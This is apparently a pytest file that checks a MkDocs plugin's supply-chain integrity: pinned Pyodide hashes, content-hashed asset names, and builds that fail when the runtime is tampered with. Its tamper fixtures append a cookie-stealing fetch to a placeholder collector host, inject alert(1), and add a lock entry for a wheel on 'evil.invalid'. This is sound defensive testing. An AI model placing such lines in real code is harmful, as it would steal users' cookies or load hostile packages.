"""Integrity: the runtime the site ships is the pinned one, verified byte for byte on every
build (a tampered copy stops a real `mkdocs build`), and everything the plugin writes is
loaded by a content-hashed name. `tests/plugin/test_runtime.py` checks the verifier itself;
these tests check the built site and the build as an author runs it."""

from __future__ import annotations

import gzip
import hashlib
import json
import os
import re
import shutil
import subprocess
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

from plugin.runtime import BOOT_FILES, GZIP_FILES, MANIFEST
from tests.reliability.project import PYODIDE, make_project
from tests.sitetools import ROOT, build_site

HASHED = re.compile(r"(?P<stem>.+)-(?P<hash>[0-9a-f]{12})(?P<suffix>\.[a-z]+)$")


def manifest() -> dict[str, object]:
    data: dict[str, object] = json.loads(MANIFEST.read_text(encoding="utf-8"))
    return data


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def test_the_manifest_pins_what_npm_pins() -> None:
    version = manifest()["version"]
    lock = json.loads((ROOT / "package-lock.json").read_text(encoding="utf-8"))
    package = json.loads((ROOT / "package.json").read_text(encoding="utf-8"))
    assert package["dependencies"]["pyodide"] == version  # exact, no range
    assert lock["packages"]["node_modules/pyodide"]["version"] == version
    assert lock["packages"]["node_modules/pyodide"]["integrity"].startswith("sha512-")
    assert json.loads((PYODIDE / "package.json").read_text(encoding="utf-8"))["version"] == version


def test_the_site_holds_exactly_the_verified_boot_files(built_site: Path) -> None:
    folder = built_site / "assets" / "advisor" / f"pyodide-{manifest()['version']}"
    files = manifest()["files"]
    assert isinstance(files, dict)
    gz = [f"{name}.gz" for name in GZIP_FILES]
    assert sorted(p.name for p in folder.iterdir()) == sorted([*BOOT_FILES, *gz])
    for name in BOOT_FILES:
        assert sha256(folder / name) == files[name], name
    for name in GZIP_FILES:  # the pre-compressed copies hold exactly the verified bytes
        unpacked = gzip.decompress((folder / f"{name}.gz").read_bytes())
        assert hashlib.sha256(unpacked).hexdigest() == files[name], name


def test_everything_else_the_plugin_writes_has_a_content_hashed_name(built_site: Path) -> None:
    advisor = built_site / "assets" / "advisor"
    written = [p for p in advisor.rglob("*") if p.is_file() and "pyodide-" not in str(p)]
    assert len(written) >= 6  # engine archive, two models, widget script and style, worker
    for path in written:
        # A .gz copy (the snapshot's) carries the hash of what it decompresses to.
        match = HASHED.match(path.name.removesuffix(".gz"))
        assert match, f"{path.relative_to(built_site)} has no content hash in its name"
        content = gzip.decompress(path.read_bytes()) if path.suffix == ".gz" else path.read_bytes()
        assert match["hash"] == hashlib.sha256(content).hexdigest()[:12], path.name


def test_the_quiz_page_names_the_hashed_files(built_site: Path) -> None:
    page = (built_site / "quiz" / "index.html").read_text(encoding="utf-8")
    raw = re.search(r'data-advisor-settings="([^"]+)"', page)
    assert raw
    settings = json.loads(raw.group(1).replace("&#34;", '"').replace("&amp;", "&"))
    for key in ("archive", "modelUrl", "worker"):
        target = (built_site / "quiz" / settings[key]).resolve()
        assert target.is_file(), key
        match = HASHED.match(target.name)
        assert match
        assert match["hash"] == sha256(target)[:12]
    assert settings["indexUrl"].rstrip("/").endswith(f"pyodide-{manifest()['version']}")


# ------------------------------------------------------------------- a tampered runtime


def flip_a_byte(path: Path) -> None:
    """One byte changed in the middle; same size and modification time."""
    data = bytearray(path.read_bytes())
    data[len(data) // 2] ^= 0xFF
    stat = path.stat()
    path.unlink()  # a hard link to node_modules: never write through it
    path.write_bytes(bytes(data))
    os.utime(path, ns=(stat.st_atime_ns, stat.st_mtime_ns))


def truncate(path: Path) -> None:
    data = path.read_bytes()
    path.unlink()
    path.write_bytes(data[: len(data) // 2])


def append_script(path: Path) -> None:
    data = path.read_bytes()
    path.unlink()
    path.write_bytes(data + b'\n;fetch("https://collector.example.invalid/?" + document.cookie);\n')


def same_size_replacement(path: Path) -> None:
    size = path.stat().st_size
    path.unlink()
    path.write_bytes((b"/* replaced */ alert(1);\n" * (size // 25 + 1))[:size])


def edit_lock(path: Path) -> None:
    lock = json.loads(path.read_text(encoding="utf-8"))
    lock["packages"]["evil"] = {"name": "evil", "file_name": "https://evil.invalid/evil.whl"}
    path.unlink()
    path.write_text(json.dumps(lock), encoding="utf-8")


TAMPER: dict[str, tuple[str, Callable[[Path], None]]] = {
    "wasm-one-byte-flipped": ("pyodide.asm.wasm", flip_a_byte),
    "stdlib-truncated": ("python_stdlib.zip", truncate),
    "loader-with-a-script-appended": ("pyodide.mjs", append_script),
    "asm-mjs-replaced-same-size": ("pyodide.asm.mjs", same_size_replacement),
    "lock-file-edited": ("pyodide-lock.json", edit_lock),
}


def tampered_build(name: str, where: Path) -> tuple[Path, subprocess.CompletedProcess[str]]:
    runtime = where / "pyodide"
    shutil.copytree(PYODIDE, runtime, copy_function=os.link)
    target, tamper = TAMPER[name]
    tamper(runtime / target)
    project = make_project(where / "project", runtime_dir=str(runtime))
    site = where / "site"
    return site, build_site(site, config=project.config)


@pytest.fixture(scope="module")
def tampered(tmp_path_factory: pytest.TempPathFactory) -> Iterator[
        dict[str, tuple[Path, subprocess.CompletedProcess[str]]]]:
    root = tmp_path_factory.mktemp("tampered")
    with ThreadPoolExecutor(max_workers=3) as pool:
        futures = {name: pool.submit(tampered_build, name, root / name) for name in TAMPER}
        yield {name: future.result() for name, future in futures.items()}


@pytest.mark.parametrize("name", list(TAMPER))
def test_a_tampered_runtime_stops_the_build(
    name: str, tampered: dict[str, tuple[Path, subprocess.CompletedProcess[str]]]
) -> None:
    site, done = tampered[name]
    output = done.stdout + done.stderr
    assert done.returncode == 1, output
    assert "Traceback" not in output
    file = TAMPER[name][0]
    message = (rf"advisor: '[^']*/pyodide/{re.escape(file)}' does not match the SHA-256 "
               r"recorded for Pyodide [\d.]+ in plugin/runtime-manifest\.json")
    assert re.search(message, output), output
    assert not list(site.glob("assets/advisor/pyodide-*/*")), "a tampered runtime was shipped"


def test_node_modules_was_not_touched() -> None:
    files = manifest()["files"]
    assert isinstance(files, dict)
    for name in BOOT_FILES:
        assert sha256(PYODIDE / name) == files[name]
